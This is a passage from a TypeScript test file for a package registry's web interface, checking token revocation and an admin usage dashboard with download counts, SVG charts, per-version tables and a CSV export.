    expect((await registry.request('/-/whoami', { token: second })).status).toBe(401)
    // Revoking again: the token is gone.
    expect((await uma.open(`${registry.url}/-/web/tokens/${rotatedRow!.id}/revoke`, { method: 'POST', form: { csrf: csrfOf(again) } })).status).toBe(404)
  })
})

describe('usage', () => {
  test('downloads over time per package and version, top packages, and the CSV export', async () => {
    const download = async (name: string, version: string, times: number) => {
      const base = name.startsWith('@') ? name.slice(name.indexOf('/') + 1) : name
      for (let i = 0; i < times; i++) expect((await registry.request(`/${escapeName(name)}/-/${base}-${version}.tgz`)).status).toBe(200)
    }
    await download('http-fetcher', '1.1.0', 5)
    await download('http-fetcher', '1.0.0', 2)
    await download('@acme/widget', '2.0.0', 3)
    // Yesterday's downloads, recorded as the tarball route records them.
    registry.ctx.downloads.record('http-fetcher', '1.0.0', { address: null }, Date.now() - 86_400_000)
    await registry.ctx.downloads.flush()
    const today = new Date().toISOString().slice(0, 10)
    const yesterday = new Date(Date.now() - 86_400_000).toISOString().slice(0, 10)

    const admin = await signedInBrowser(ADMIN.username, ADMIN.password)
    const overview = await admin.open(`${registry.url}/-/web/usage?days=7`)
    expect(overview.html).toContain('<strong id="total-downloads">11</strong> downloads in the last 7 days')
    expect(overview.html).toMatch(/<svg class="chart" id="downloads-chart" viewBox="0 0 720 260" role="img"/)
    expect(overview.html).toContain('<desc id="downloads-chart-desc">11 downloads from')
    expect(overview.html).toMatch(/<table id="top-packages">.*<a href="\/-\/web\/packages\/http-fetcher">http-fetcher<\/a><\/td><td class="num">8<\/td>.*<a href="\/-\/web\/packages\/@acme\/widget">@acme\/widget<\/a><\/td><td class="num">3<\/td>/s)
    expect(overview.html).toContain(`<tr><th scope="row">${today}</th><td class="num">10</td></tr>`)
    expect(overview.html).toContain(`<tr><th scope="row">${yesterday}</th><td class="num">1</td></tr>`)

    const perVersion = await admin.open(`${registry.url}/-/web/usage?package=http-fetcher&days=7`)
    expect(perVersion.html).toContain('<strong id="total-downloads">8</strong>')
    expect(perVersion.html).toContain('<g class="series" data-label="1.1.0">')
    expect(perVersion.html).toContain('<g class="series" data-label="1.0.0">')
    expect(perVersion.html).toContain('<tr><th scope="row">1.1.0</th><td class="num">5</td></tr><tr><th scope="row">1.0.0</th><td class="num">3</td></tr>')

    const csv = await registry.request('/-/web/usage/csv?days=7', { headers: { cookie: `packr_session=${admin.cookie(host(), 'packr_session')}` } })
    expect(csv.status).toBe(200)
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(csv.headers.get('content-disposition')).toBe('attachment; filename="packr-downloads-all-7d.csv"')
    expect(await csv.text()).toBe(
      ['day,package,version,downloads', `${yesterday},http-fetcher,1.0.0,1`, `${today},@acme/widget,2.0.0,3`, `${today},http-fetcher,1.0.0,2`, `${today},http-fetcher,1.1.0,5`, ''].join('\r\n'),
    )
    const one = await registry.request('/-/web/usage/csv?days=7&package=@acme/widget', { headers: { cookie: `packr_session=${admin.cookie(host(), 'packr_session')}` } })
    expect(await one.text()).toBe(`day,package,version,downloads\r\n${today},@acme/widget,2.0.0,3\r\n`)
    expect((await admin.open(`${registry.url}/-/web/usage?days=13`)).status).toBe(400)
    expect((await admin.open(`${registry.url}/-/web/usage?package=no-such-package`)).status).toBe(404)
  })
})
